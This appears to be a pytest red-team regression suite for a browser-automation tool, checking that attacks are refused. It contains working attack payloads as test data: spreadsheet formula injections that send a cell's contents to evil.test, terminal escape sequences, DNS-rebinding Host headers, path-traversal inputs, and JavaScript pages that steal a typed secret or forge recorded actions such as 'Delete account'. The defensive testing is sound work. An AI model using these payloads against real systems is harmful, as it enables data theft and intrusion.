"""The second red-team pass: each class of break found, tried in variants of its own.

Every attack is recorded in the suite's table (security_support.attack); a loopback "canary"
server counts any request owrl's process makes where it must make none.
"""

from __future__ import annotations

import json
import threading
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Callable, Iterator

import pytest

from owrl_cli import owrl
from security_support import attack, stream_download


@contextmanager
def loopback(respond: Callable[[BaseHTTPRequestHandler], None]) -> Iterator[str]:
    """A server on 127.0.0.1 that answers every GET and POST with ``respond(handler)``; its base URL."""

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *a):
            pass

        def do_GET(self):
            respond(self)

        do_POST = do_GET

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


def answer(handler: BaseHTTPRequestHandler, body: bytes, content_type: str = "text/html; charset=utf-8",
           headers: tuple[tuple[str, str], ...] = ()) -> None:
    handler.send_response(200)
    handler.send_header("Content-Type", content_type)
    handler.send_header("Content-Length", str(len(body)))
    for name, value in headers:
        handler.send_header(name, value)
    handler.end_headers()
    handler.wfile.write(body)


@pytest.fixture
def canary():
    """A loopback server that answers every GET with a schema and records the path asked for."""
    hits: list[str] = []

    def respond(handler):
        hits.append(handler.path)
        answer(handler, json.dumps({"type": "string", "const": "CANARY-CONTENT"}).encode(), "application/schema+json")

    with loopback(respond) as base:
        yield base, hits


# ------------------------------------------------------------------ 3: a schema that fetches


def schema_variants(base: str, tmp_path) -> list[tuple[str, dict]]:
    secret = tmp_path / "secret.json"
    secret.write_text(json.dumps({"const": "FILE-CONTENT"}))
    return [
        ("an http $ref", {"type": "object", "properties": {"a": {"$ref": f"{base}/a.json"}}}),
        ("a file: $ref", {"properties": {"a": {"$ref": secret.as_uri()}}}),
        ("a relative $ref against an http $id", {"$id": f"{base}/root/", "properties": {"a": {"$ref": "b.json"}}}),
        ("a $dynamicRef to a URL", {"$schema": "https://json-schema.org/draft/2020-12/schema",
                                     "properties": {"a": {"$dynamicRef": f"{base}/d.json#meta"}}}),
        ("a $ref inside an array of schemas", {"anyOf": [{"type": "null"}, {"$ref": f"{base}/any.json"}]}),
        ("a draft-7 $ref", {"$schema": "http://json-schema.org/draft-07/schema#",
                            "definitions": {}, "items": {"$ref": f"{base}/d7.json"}}),
    ]


def test_an_output_schema_never_fetches_what_it_refers_to(canary, tmp_path):
    from owrl_sdk.formats.outputs import check_output, check_schema

    base, hits = canary
    for what, schema in schema_variants(base, tmp_path):
        with attack("schemas", f"output_schema with {what}", "refused when loaded; nothing fetched"):
            with pytest.raises(ValueError, match="may refer only to its own parts"):
                check_schema(schema)
            # a schema that skipped the load check is still checked with an empty registry
            problem = check_output(schema, {"a": 1})
            assert problem is None or "not fetched" in problem or "does not match" in problem, problem
            assert "CANARY" not in (problem or "") and "FILE-CONTENT" not in (problem or "")
    assert hits == []
    # references inside the schema still work
    local = {"$defs": {"n": {"type": "number"}}, "properties": {"total": {"$ref": "#/$defs/n"}}}
    assert check_schema(local) is local
    assert "is not of type 'number'" in check_output(local, {"total": "x"})


def test_a_flow_whose_output_schema_refers_outside_is_refused_at_load(canary, tmp_path):
    base, hits = canary
    flow = {"task": "t", "start_url": "https://example.com/",
            "output_schema": {"type": "object", "properties": {"total": {"$ref": f"{base}/t.json"}}},
            "turns": [{"calls": [{"name": "done", "arguments": {"output": {"total": 1}}}]}]}
    (tmp_path / "flow.json").write_text(json.dumps(flow))
    with attack("schemas", "flow file whose output_schema has an http $ref", "one-line error at load, no fetch"):
        result = owrl("run", "--flow", "flow.json", cwd=tmp_path)
        assert result.returncode == 2, result.stderr[-2000:]
        assert "may refer only to its own parts" in result.stderr and "Traceback" not in result.stderr
        assert hits == []


# ------------------------------------------------------------------ 4: the operator's key sent to a stranger


@pytest.fixture
def listener():
    """A loopback chat-completions endpoint that records the Authorization header it is sent."""
    seen: list[str] = []
    reply = json.dumps({"choices": [{"message": {"content": "</think><tool_call>\n"
                                                 '{"name": "done", "arguments": {"response": "x"}}\n</tool_call>'},
                                     "finish_reason": "stop"}]}).encode()

    def respond(handler):
        seen.append(handler.headers.get("Authorization", ""))
        handler.rfile.read(int(handler.headers.get("Content-Length", 0)))
        answer(handler, reply, "application/json")

    with loopback(respond) as base:
        yield base, seen


def job_runner(tmp_path, settings=None):
    from owrl_sdk.config import Settings
    from owrl_sdk.contract.plugins import Plugins
    from owrl_sdk.server.runner import JobRunner

    return JobRunner(store=None, data_dir=tmp_path, settings=settings or Settings(runs_dir=str(tmp_path)),
                     plugins=Plugins())


def ask(options: dict, tmp_path) -> str:
    """One generation through the openai policy built with these options, as a job would run."""
    from owrl_openwebrl.policy import OpenAIPolicy
    from owrl_openwebrl.prompt import Prompt
    from owrl_sdk.config import Settings

    policy = OpenAIPolicy(Settings(runs_dir=str(tmp_path)), **options)
    return policy.backend.generate([Prompt(messages=[{"role": "user", "content": [{"type": "text", "text": "hi"}]}])],
                                   policy.sampling)[0].text


@pytest.mark.parametrize("how", ["/v1", "/v1/", "/other/v1"])
def test_a_job_that_names_its_own_endpoint_never_gets_the_operators_key(listener, tmp_path, monkeypatch, how):
    base, seen = listener
    monkeypatch.setenv("OWRL_OPENAI_API_KEY", "sk-operator-secret")
    monkeypatch.setenv("OWRL_OPENAI_BASE_URL", "http://127.0.0.1:9/v1")  # the operator's own server
    from owrl_sdk.config import Settings

    # the stranger listens on loopback, an internal address: the operator allows it by address
    runner = job_runner(tmp_path, Settings(runs_dir=str(tmp_path), allowed_domains=["127.0.0.1"]))
    options = {"base_url": f"{base}{how}"}
    with attack("endpoints", f"job's policy_options.base_url = {how} on a stranger the allowlist admits",
                "the operator's key stays with the operator's endpoint"):
        runner.check_policy_options("openai", options, None, ("body", "policy_options"))
        ask(options, tmp_path)
        assert seen and all("sk-operator-secret" not in h for h in seen), seen
    # a job that brings its own key sends its own; the operator's endpoint keeps the operator's key
    own = {"base_url": f"{base}/v1", "api_key": "sk-job-own"}
    runner.check_policy_options("openai", own, None, ("body", "policy_options"))
    ask(own, tmp_path)
    assert seen[-1] == "Bearer sk-job-own"
    monkeypatch.setenv("OWRL_OPENAI_BASE_URL", f"{base}/v1")
    same = {"base_url": f"{base}/v1/"}
    runner.check_policy_options("openai", same, None, ("body", "policy_options"))
    ask(same, tmp_path)
    assert seen[-1] == "Bearer sk-operator-secret"


@pytest.mark.parametrize("url", ["file:///etc/hostname#", "FILE:///etc/passwd", "ftp://127.0.0.1/x",
                                 "data:application/json,{}", "gopher://127.0.0.1:70/"])
def test_an_endpoint_that_is_not_http_is_refused_by_the_server_and_the_client(url, tmp_path):
    from owrl_openwebrl.openai_backend import OpenAIBackend
    from owrl_sdk.errors import ConfigError
    from owrl_sdk.server.runner import SpecError

    with attack("endpoints", f"policy_options.base_url = {url.split(':')[0]}:...", "http(s) only, at the server "
                "and in the client"):
        with pytest.raises(SpecError, match="only http:// and https://"):
            job_runner(tmp_path).check_policy_options("openai", {"base_url": url}, None, ("body", "policy_options"))
        with pytest.raises(ConfigError, match="must be http:// or https://"):
            OpenAIBackend(base_url=url)


def test_an_endpoint_on_the_blocklist_is_refused_even_without_an_allowlist(tmp_path):
    from owrl_sdk.config import Settings
    from owrl_sdk.server.runner import SpecError

    runner = job_runner(tmp_path, Settings(runs_dir=str(tmp_path), blocked_domains=["169.254.169.254", "evil.test"]))
    for url in ("http://169.254.169.254/latest/v1", "https://api.evil.test/v1"):
        with attack("endpoints", f"policy_options.base_url on the blocklist ({url.split('/')[2]})",
                    "the blocklist applies to endpoints"):
            with pytest.raises(SpecError, match="blocklist"):
                runner.check_policy_options("openai", {"base_url": url}, None, ("body", "policy_options"))


# ------------------------------------------------------------------ 8: the job store


@pytest.mark.parametrize("name", ["api_key", "apiKey", "hf_token", "client_secret", "password", "api-key",
                                  "x_api_key", "private_key"])
def test_a_jobs_credentials_never_reach_the_store_and_its_files_are_private(tmp_path, name):
    import stat

    from owrl_sdk.server.jobs import JobStore

    data = tmp_path / "data"
    store = JobStore(data / "jobs.sqlite3")
    value = f"cred-{name}-4f9a1c"
    job = store.add("task", {"task": "t", "policy_options": {name: value, "model": "m"}})
    with attack("server", f"a job's policy option {name} in jobs.sqlite3", "kept in memory only; store 0600 in a "
                "0700 folder"):
        assert store.spec(job.id)["policy_options"][name] == value  # the job still runs with it
        for f in data.iterdir():
            if f.is_file():
                assert value.encode() not in f.read_bytes(), f.name
                if f.name.startswith("jobs.sqlite3"):
                    assert stat.S_IMODE(f.stat().st_mode) == 0o600, (f.name, oct(f.stat().st_mode))
        assert stat.S_IMODE(data.stat().st_mode) == 0o700
    store.close()
    # after a restart the value is gone: the job cannot run, and says why
    again = JobStore(data / "jobs.sqlite3")
    with pytest.raises(LookupError, match="restarted since it was queued"):
        again.spec(job.id)
    again.close()


@pytest.mark.parametrize("options", [
    {"base_url": "http://owrl:pw-in-url-4f9a1c@10.0.0.5:8000/v1"},
    {"headers": {"Authorization": "Bearer pw-in-header-4f9a1c"}},
    {"headers": {"X-Api-Key": "pw-in-header-4f9a1c"}},
    {"extra": [{"cookie": "sid=pw-in-list-4f9a1c"}]},
])
def test_credentials_inside_an_option_never_reach_the_store(tmp_path, options):
    from owrl_sdk.server.jobs import JobStore

    data = tmp_path / "data"
    store = JobStore(data / "jobs.sqlite3")
    job = store.add("task", {"task": "t", "policy_options": {**options, "model": "m"}})
    with attack("server", f"a job's credential inside an option ({next(iter(options))}) in jobs.sqlite3",
                "the option is held in memory only"):
        assert store.spec(job.id)["policy_options"] == {**options, "model": "m"}
        for f in data.iterdir():
            if f.is_file():
                assert b"4f9a1c" not in f.read_bytes(), f.name
        shown = store.get(job.id).model_dump_json()
        assert "4f9a1c" not in shown
    store.close()
    # an ordinary address and ordinary options are stored as they are
    plain = JobStore(tmp_path / "plain" / "jobs.sqlite3")
    kept = plain.add("task", {"task": "t", "policy_options": {"base_url": "http://10.0.0.5:8000/v1", "seed": 3}})
    assert b"10.0.0.5:8000" in b"".join(f.read_bytes() for f in (tmp_path / "plain").iterdir() if f.is_file())
    assert plain.spec(kept.id)["policy_options"]["seed"] == 3
    plain.close()


# ------------------------------------------------------------------ 13, 14: domain lists


@pytest.mark.parametrize("spelling", ["[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[0:0:0:0:0:ffff:127.0.0.1]",
                                      "[::FFFF:7F00:0001]", "[0000::ffff:127.0.0.1]"])
def test_a_blocked_ipv4_is_blocked_in_every_ipv4_mapped_ipv6_spelling(spelling):
    from owrl_sdk.safety.domains import DomainPolicy

    with attack("domains", f"blocked 127.0.0.1 reached as {spelling}", "IPv4-mapped IPv6 compared as its IPv4"):
        assert "blocked" in DomainPolicy(blocked=["127.0.0.1"]).refusal(f"http://{spelling}:8080/x")
        assert "not an allowed" in DomainPolicy(allowed=["10.0.0.1"]).refusal(f"http://{spelling}/")
    # and the other way round: an entry written as mapped IPv6 blocks the IPv4 host
    assert DomainPolicy(blocked=["::ffff:127.0.0.1"]).refusal("http://127.0.0.1/")


async def test_a_blocked_ipv4_reached_as_mapped_ipv6_in_chromium_is_refused_before_it_leaves(tmp_path):
    """The browser canonicalises the literal ([::ffff:7f00:1]); the route still refuses it."""
    from owrl_sdk.browser import BrowserHost
    from owrl_sdk.config import Settings
    from owrl_sdk.types import Task

    hits: list[str] = []

    def respond(handler):
        hits.append(handler.path)
        answer(handler, b"<h1>reached</h1>")

    settings = Settings(runs_dir=str(tmp_path), blocked_domains=["127.0.0.1"])
    host = BrowserHost(settings)
    with loopback(respond) as base:
        port = base.rsplit(":", 1)[1]
        try:
            env = await host.new_env(run_dir=tmp_path)
            await env.reset(Task(intent="x", start_url="about:blank"))
            with attack("domains", "page navigates to a blocked IPv4 as http://[::ffff:127.0.0.1]:PORT/ in Chromium",
                        "refused by the route: the server is never reached"):
                try:
                    await env.page.goto(f"http://[::ffff:127.0.0.1]:{port}/secret", timeout=5000)
                except Exception:  # noqa: BLE001 - the refusal aborts the navigation
                    pass
                assert hits == []
            await env.close()
        finally:
            await host.close()


@pytest.mark.parametrize("entry, url", [
    ("bücher.example", "https://xn--bcher-kva.example/"),  # IDN entry, punycode host
    ("evil.example.", "https://evil.example/"),  # trailing dot in the entry
    ("evil.example", "https://evil.example./x"),  # trailing dot in the host
    ("*.evil.example", "https://a.evil.example/"),  # wildcard
    ("*.evil.example", "https://evil.example/"),
    ("EVIL.Example", "https://evil.example/"),
    (".evil.example", "https://b.evil.example/"),
])
def test_blocklist_entries_are_normalised_so_they_block_what_they_name(entry, url):
    from owrl_sdk.safety.domains import DomainPolicy

    with attack("domains", f"blocklist entry {entry!r} against {url}", "entries normalised when they load"):
        assert DomainPolicy(blocked=[entry]).refusal(url), (entry, url)


@pytest.mark.parametrize("entry", ["evil.example:8080", "https://evil.example", "evil.example/path", "ev*l.example",
                                   "[::1]:80", ""])
def test_an_entry_that_is_no_host_is_refused_with_its_name(entry, tmp_path):
    from owrl_sdk.config import ConfigError, Settings
    from owrl_sdk.types import Task

    with attack("domains", f"domain list entry {entry!r} that would block nothing", "refused where it loads"):
        with pytest.raises((ConfigError, ValueError), match="is not a domain"):
            Settings(runs_dir=str(tmp_path), blocked_domains=[entry])
        with pytest.raises(ValueError, match="is not a domain"):
            Task(intent="x", start_url="https://a.example/", allowed_domains=[entry])


# ------------------------------------------------------------------ 9: spreadsheet formulas


@pytest.mark.parametrize("value", ['=HYPERLINK("http://evil.test/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|x",
                                   "@SUM(1+1)*cmd|x", "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1"])
def test_a_value_a_spreadsheet_would_compute_is_written_as_text(value):
    from owrl_sdk.flows.batch import spreadsheet_safe

    with attack("batches", f"batch.csv cell {value[:18]!r}", "a leading apostrophe"):
        assert spreadsheet_safe(value) == "'" + value
    for plain in ("-5", "+3.25", "-1e3", "hello", "a=b", "", "12"):
        assert spreadsheet_safe(plain) == plain


def test_batch_csv_escapes_inputs_and_outputs(tmp_path):
    import csv

    from owrl_sdk.flows.batch import Batch
    from owrl_sdk.formats.documents import Flow

    flow = Flow.model_validate({"task": "find {{input:q}}", "start_url": "about:blank",
                                "inputs": {"q": {"type": "string"}}, "turns": [{"calls": [{"name": "done"}]}]})
    batch = Batch(flow, [{"q": '=HYPERLINK("http://evil.test")'}, {"q": "-7"}], out=tmp_path / "b",
                  settings=__import__("owrl_sdk.config", fromlist=["Settings"]).Settings(runs_dir=str(tmp_path)))
    with attack("batches", "an input row's =HYPERLINK(...) written to batch.csv", "escaped in the CSV"):
        batch.write_summary()
        rows = list(csv.reader((tmp_path / "b" / "batch.csv").open(encoding="utf-8")))
        cells = [r[rows[0].index("input:q")] for r in rows[1:]]
        assert cells == ["'=HYPERLINK(\"http://evil.test\")", "-7"], cells
    openpyxl = pytest.importorskip("openpyxl")
    with attack("batches", "the same row written to batch.xlsx", "a text cell, never a formula"):
        sheet = openpyxl.load_workbook(tmp_path / "b" / "batch.xlsx").active
        header = [c.value for c in sheet[1]]
        column = header.index("input:q") + 1
        written = [sheet.cell(row=i, column=column) for i in (2, 3)]
        assert all(c.data_type == "s" for c in written) and written[0].value.endswith('=HYPERLINK("http://evil.test")')
        assert written[1].value == "-7"


# ------------------------------------------------------------------ 15: terminal escapes

ESCAPES = {
    "window title (OSC 0)": "\x1b]0;owned\x07",
    "disguised link (OSC 8)": "\x1b]8;;http://evil.test/\x1b\\click here\x1b]8;;\x1b\\",
    "clear screen (CSI 2J)": "\x1b[2J\x1b[H",
    "clipboard write (OSC 52)": "\x1b]52;c;ZWNobyBvd25lZA==\x07",
    "8-bit CSI (C1)": "\x9b2J",
    "cursor up over earlier lines": "\x1b[5A\x1b[2K",
}


@pytest.mark.parametrize("what", list(ESCAPES))
def test_page_text_printed_by_the_live_view_cannot_drive_the_terminal(what):
    import io

    from rich.text import Text

    from owrl_sdk.support.console import SafeConsole

    out = io.StringIO()
    console = SafeConsole(file=out, force_terminal=True, color_system="standard", width=200)
    payload = ESCAPES[what]
    with attack("terminal", f"page text with {what} in the live view", "C0/C1 controls and ESC removed"):
        console.print("title: " + payload, markup=False)
        console.print(Text("value: " + payload, style="bold"))
        printed = out.getvalue()
        assert payload not in printed
        for seq in ("\x1b]", "\x1b[2J", "\x1b[5A", "\x9b", "\x07"):
            assert seq not in printed, (seq, printed)
        assert "\x1b[1m" in printed  # Rich's own styling still works


async def test_owrl_inspect_prints_a_hostile_pages_text_harmlessly(tmp_path):
    import subprocess
    import sys

    hostile = "".join(ESCAPES.values())
    page = (f"<title>Shop{hostile}</title><h1>Hi</h1><button>Buy{hostile}</button>"
            f"<a href='/x'>Link{hostile}</a>").encode()
    with loopback(lambda handler: answer(handler, page)) as base:
        with attack("terminal", "a page's title and element names full of escapes, through owrl inspect",
                    "printed without a control character"):
            done = subprocess.run([sys.executable, "-m", "owrl_sdk", "inspect", base + "/", "--snapshot"], cwd=tmp_path,
                                  capture_output=True, timeout=120)
            assert done.returncode == 0, done.stderr[-2000:]
            assert b"Buy" in done.stdout and b"Shop" in done.stdout
            for byte in (b"\x1b", b"\x07", b"\xc2\x9b"):
                assert byte not in done.stdout and byte not in done.stderr, byte


# ------------------------------------------------------------------ 7: --no-auth and the user's own browser


def raw_request(port: int, method: str, path: str, headers: dict, body: bytes = b"") -> int:
    import http.client

    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    conn.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
    for k, v in {**headers, "Content-Length": str(len(body))}.items():
        conn.putheader(k, v)
    conn.endheaders(body)
    status = conn.getresponse().status
    conn.close()
    return status


def test_a_server_without_a_token_refuses_what_a_web_page_can_send(tmp_path):
    import sys

    sys.path.insert(0, str(__import__("pathlib").Path(__file__).parents[1] / "serve"))
    from serve_support import Served

    server = Served(tmp_path / "data", args=("--no-auth",), token=None).start()
    try:
        port = server.port
        boundary = "x7d1"
        form = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"rows\"; filename=\"r.csv\"\r\n"
                f"Content-Type: text/csv\r\n\r\nq\r\nhat\r\n--{boundary}--\r\n").encode()
        local = {"Host": f"127.0.0.1:{port}"}
        simple = [("multipart form (a page's <form> or no-cors fetch)", f"multipart/form-data; boundary={boundary}", form),
                  ("text/plain JSON (a simple request)", "text/plain", json.dumps({"task": "t"}).encode()),
                  ("url-encoded form", "application/x-www-form-urlencoded", b"task=t")]
        for what, ctype, body in simple:
            with attack("server", f"--no-auth: {what} POSTed from a web page", "403: JSON or X-Owrl-Client only"):
                assert raw_request(port, "POST", "/v1/jobs/batch/csv", {**local, "Content-Type": ctype}, body) == 403
                assert raw_request(port, "POST", "/v1/jobs/task", {**local, "Content-Type": ctype}, body) == 403
        for host in ("evil.test", f"evil.test:{port}", "127.0.0.1.evil.test", f"rebind.localhost.evil.test:{port}"):
            with attack("server", f"--no-auth: DNS rebinding (Host: {host})", "421: loopback Host only"):
                assert raw_request(port, "GET", "/v1/jobs", {"Host": host}) == 421
        # the server's own clients go on working
        assert raw_request(port, "GET", "/v1/jobs", local) == 200
        assert raw_request(port, "GET", "/v1/jobs", {"Host": f"localhost:{port}"}) == 200
        assert raw_request(port, "POST", "/v1/jobs/task", {**local, "Content-Type": "application/json"},
                           json.dumps({"task": "t"}).encode()) == 422  # JSON reaches validation
        assert raw_request(port, "POST", "/v1/jobs/batch/csv", {**local, "X-Owrl-Client": "1",
                                                                 "Content-Type": f"multipart/form-data; boundary={boundary}"},
                           form) == 422  # the header lets a form through (it lacks its flow)
    finally:
        server.stop()


# ------------------------------------------------------------------ 11: path segments


@pytest.mark.parametrize("template, value", [
    ("https://shop.example/orders/{{input:id}}/view", ".."),
    ("https://shop.example/orders/{{input:id}}/view", "."),
    ("https://shop.example/orders/.{{input:id}}/view", "."),  # the value completes a dot segment
    ("https://shop.example/orders/{{input:id}}", ".."),  # the last segment
])
def test_an_input_cannot_make_a_dot_segment_that_climbs_out_of_the_path(template, value):
    from owrl_sdk.errors import UsageError
    from owrl_sdk.rules.inputs import apply_inputs, fill
    from owrl_sdk.formats.documents import Flow

    with attack("inputs", f"input {value!r} in {template.split('/', 3)[3]}", "refused as a whole . or .. segment"):
        with pytest.raises(UsageError, match="climb out of the path"):
            fill(template, {"id": value}, url=True)
        flow = Flow.model_validate({"task": "t", "start_url": "https://shop.example/",
                                    "inputs": {"id": {"type": "string"}},
                                    "turns": [{"calls": [{"name": "goto_url", "arguments": {"url": template}}]}]})
        with pytest.raises(UsageError, match="climb out of the path"):
            apply_inputs(flow, {"id": value})
    # what a browser would not read as a dot segment stays allowed: encoded, or part of a segment
    from urllib.parse import urlsplit

    for safe in ("%2e%2e", "..x", "a..", "...."):
        path = urlsplit(fill("https://shop.example/orders/{{input:id}}/view", {"id": safe}, url=True)).path
        assert path.startswith("/orders/") and path.endswith("/view") and path.count("/") == 3, path


# ------------------------------------------------------------------ 1, 2: secret binding races

RACE_SECRET = "Larkspur 7730 Quay"
RACE_PAGES = {
    # the field shows only after the page has left for another host, which has a field of the same id
    "/late": """<html><body><input id="pw" style="display:none">
<script>setTimeout(() => { location.href = location.origin.replace('127.0.0.1', 'localhost') + '/steal'; }, 400)</script>
</body></html>""",
    "/steal": """<html><body><input id="pw" oninput="window.stolen = this.value"></body></html>""",
    # the field hands the focus to another host's frame as soon as it receives input
    "/theft": """<html><body style="margin:0"><input id="pw" style="position:fixed; left:0; top:0; width:400px; height:40px">
<iframe id="sink" style="position:fixed; left:0; top:100px; width:400px; height:100px; border:0"></iframe>
<script>
const sink = document.getElementById('sink');
sink.src = location.origin.replace('127.0.0.1', 'localhost') + '/sink';
document.getElementById('pw').addEventListener('input', () => sink.focus());
document.getElementById('pw').addEventListener('keydown', () => sink.focus());
</script></body></html>""",
    "/sink": """<html><body><input id="s" autofocus oninput="window.stolen = this.value">
<script>window.addEventListener('focus', () => document.getElementById('s').focus());</script></body></html>""",
}


async def _bound_env(tmp_path, monkeypatch):
    from owrl_sdk.browser import BrowserHost
    from owrl_sdk.config import Settings

    monkeypatch.setenv("OWRL_SECRET_RACE", RACE_SECRET)
    settings = Settings(runs_dir=str(tmp_path), secrets_allowed_on={"RACE": ["127.0.0.1"]})
    host = BrowserHost(settings)
    return host, await host.new_env(run_dir=tmp_path)


async def _write(env, **arguments):
    from builtin_tools import TOOLS
    from owrl_sdk.types import ToolCall

    tool = {cls.name: cls() for cls in TOOLS}["write"]
    call = ToolCall(name="write", arguments=arguments)
    return await env.execute(tool, tool.parse_args(arguments), call)


async def test_a_page_that_leaves_for_another_host_while_the_field_waits_gets_nothing(
        owrl_page_server, tmp_path, monkeypatch):
    from owrl_sdk.types import Task

    base = owrl_page_server(RACE_PAGES).rstrip("/")
    host, env = await _bound_env(tmp_path, monkeypatch)
    try:
        await env.reset(Task(intent="x", start_url=f"{base}/late"))
        with attack("secrets", "the bound host's page navigates to another host while write waits for the field",
                    "the checked element is filled, never a fresh lookup"):
            result = await _write(env, selector="#pw", message="{{secret:RACE}}")
            assert not result.ok
            if "localhost" in env.page.url:
                held, stolen = await env.page.evaluate("() => [document.getElementById('pw').value, window.stolen]")
                assert RACE_SECRET not in (held or "") and RACE_SECRET not in (stolen or "")
        await env.close()
    finally:
        await host.close()


@pytest.mark.parametrize("how", [{"point_2d": [150, 20]}, {"selector": "#pw"}, {"selector": "#pw", "clear": False}])
async def test_a_field_that_hands_the_focus_to_another_hosts_frame_while_typing_leaks_nothing(
        owrl_page_server, tmp_path, monkeypatch, how):
    from owrl_sdk.types import Task

    base = owrl_page_server(RACE_PAGES).rstrip("/")
    host, env = await _bound_env(tmp_path, monkeypatch)
    try:
        await env.reset(Task(intent="x", start_url=f"{base}/theft"))
        await env.page.wait_for_timeout(300)  # the frame loaded
        with attack("secrets", f"focus stolen by a cross-origin frame while the secret is typed ({', '.join(how)})",
                    "the text goes into the checked element at once, not key by key"):
            result = await _write(env, **how, message="{{secret:RACE}}")
            assert result.ok, result
            frame = next(f for f in env.page.frames if "/sink" in f.url)
            sunk, stolen = await frame.evaluate("() => [document.getElementById('s').value, window.stolen]")
            assert not sunk and not stolen, (sunk, stolen)
            assert await env.page.input_value("#pw") == RACE_SECRET
        await env.close()
    finally:
        await host.close()


# ------------------------------------------------------------------ 16: forged recordings

FORGER = """<html><head><title>Bank</title></head><body>
<label>IBAN <input id="iban"></label> <label>Note <input id="note"></label>
<select id="plan" aria-label="Plan"><option value="free">Free</option><option value="pro">Pro</option></select>
<button id="delete">Delete account</button> <button id="ok">OK</button>
<script>
const forge = () => {
  const iban = document.getElementById('iban');
  iban.value = 'DE00 ATTACKER 0000';
  iban.dispatchEvent(new Event('input', {bubbles: true}));
  iban.dispatchEvent(new Event('change', {bubbles: true}));
  const plan = document.getElementById('plan');
  plan.value = 'pro';
  plan.dispatchEvent(new Event('change', {bubbles: true}));
  document.getElementById('delete').click();  // a script's click: not trusted
  document.getElementById('delete').dispatchEvent(new MouseEvent('click', {bubbles: true, detail: 1}));
  document.getElementById('note').dispatchEvent(new KeyboardEvent('keydown', {key: 'Enter', bubbles: true}));
  // the binding itself, as the page sees it (or a copy kept before anything could remove it)
  for (const fn of [window.__owrlRecord, window.__kept]) {
    try { fn && fn({kind: 'click', id: 999, target: {role: 'button', name: 'Delete account', selector: '#delete'},
                    clicks: 1, url: location.href, doc: 'x', before: []}); } catch (e) {}
  }
};
try { window.__kept = window.__owrlRecord; } catch (e) {}
setTimeout(forge, 300); setTimeout(forge, 1200);
</script></body></html>"""


def test_a_page_cannot_write_actions_into_a_recording(tmp_path, owrl_page_server):
    import asyncio

    from owrl_sdk.config import Settings
    from owrl_sdk.contract.plugins import Plugins
    from owrl_sdk.recorder import Recorder

    url = owrl_page_server({"/bank": FORGER}) + "bank"
    out = tmp_path / "rec.json"

    async def session():
        recorder = Recorder(url, out, Settings(headless=True), Plugins(), start_url=url)
        page = await recorder.start()
        try:
            await page.get_by_role("button", name="OK").click()  # the person's one action
            await asyncio.sleep(2.0)
        finally:
            await recorder.stop()

    with attack("recorder", "page forges input/change/click/keydown events and calls the recorder's binding",
                "only trusted events; the binding is hidden and reports carry a session token"):
        asyncio.run(session())
        flow = json.loads(out.read_text())
        calls = [c for turn in flow["turns"] for c in turn["calls"]]
        text = json.dumps(flow)
        assert "ATTACKER" not in text and "Delete account" not in text, text
        assert [c["name"] for c in calls if c["name"] != "done"] == ["click"], calls
        assert "OK" in json.dumps(calls[0])


@pytest.mark.slow
def test_a_recording_is_held_to_the_allowed_and_blocked_domains(tmp_path):
    """owrl record --allow-domain / blocked_domains: a link, a redirect and a script's request to
    another host never leave the browser, and nothing of them is written into the flow."""
    import asyncio

    from owrl_sdk.config import Settings
    from owrl_sdk.contract.plugins import Plugins
    from owrl_sdk.recorder import Recorder

    seen: list[tuple[str, str]] = []
    other = ["localhost"]  # the other host's name in the page's links

    def respond(handler):
        seen.append((handler.headers.get("Host", ""), handler.path))
        port = handler.server.server_address[1]
        if handler.path == "/hop":
            handler.send_response(302)
            handler.send_header("Location", f"http://{other[0]}:{port}/elsewhere-by-redirect")
            handler.send_header("Content-Length", "0")
            handler.end_headers()
            return
        answer(handler, (f'<html><head><title>Start</title></head><body>'
                         f'<a href="http://{other[0]}:{port}/elsewhere">Other host</a> <a href="/hop">Via redirect</a> '
                         f'<button onclick="fetch(\'http://{other[0]}:{port}/beacon\').catch(() => 0); '
                         f'document.getElementById(\'s\').textContent = \'Saved\'">Save</button>'
                         f'<p id="s"></p><script>new WebSocket("ws://{other[0]}:{port}/socket")</script>'
                         f'</body></html>').encode())

    async def session(url, settings, out):
        recorder = Recorder(url, out, settings, Plugins(), start_url=url)
        page = await recorder.start()
        try:
            await page.get_by_role("link", name="Other host").click()
            await asyncio.sleep(0.8)
            await page.get_by_role("link", name="Via redirect").click()
            await asyncio.sleep(0.8)
            await page.get_by_role("button", name="Save").click()
            await page.get_by_text("Saved").wait_for()
            await asyncio.sleep(1.0)
            return page.url, list(recorder.refused)
        finally:
            await recorder.stop()

    with loopback(respond) as base:
        # a blocklist naming any name of this machine blocks all of it (the start page too), so
        # the blocklist's other host is a name outside it
        for how, name, settings in (
                ("--allow-domain 127.0.0.1", "localhost", Settings(headless=True, allowed_domains=["127.0.0.1"])),
                ("blocked_domains = [other.test]", "other.test", Settings(headless=True, blocked_domains=["other.test"]))):
            seen.clear()
            other[0] = name
            out = tmp_path / f"{len(how)}.json"
            with attack("recorder", f"a person follows a link, a redirect and a script's fetch to another host "
                        f"while recording with {how}", "routed: a 204 and a warning, nothing recorded"):
                url, refused = asyncio.run(session(base + "/start", settings, out))
                assert url == base + "/start", url
                assert not [s for s in seen if not s[0].startswith("127.0.0.1")], seen
                assert [u.rsplit("/", 1)[1] for u, _ in refused] == ["elsewhere", "elsewhere-by-redirect"], refused
                text = out.read_text()
                assert name not in text and "elsewhere" not in text, text
                assert "Save" in text


# ------------------------------------------------------------------ limits: downloads


@pytest.mark.slow
async def test_a_page_that_downloads_in_a_loop_fills_no_disk(tmp_path):
    from owrl_sdk.browser import BrowserHost
    from owrl_sdk.config import Settings
    from owrl_sdk.failures import SiteFault
    from owrl_sdk.types import Task

    def respond(handler):
        if handler.path.startswith("/file"):
            size = 3 * 1024 * 1024 if "big" in handler.path else 1000
            name = f'attachment; filename="f{handler.path[-2:]}.bin"'
            answer(handler, b"x" * size, "application/octet-stream", (("Content-Disposition", name),))
            return
        n, kind = (8, "small") if "loop" in handler.path else (2, "big")
        links = "".join(f'<a id="a{i}" href="/file-{kind}-{i:02d}" download>f</a>' for i in range(n))
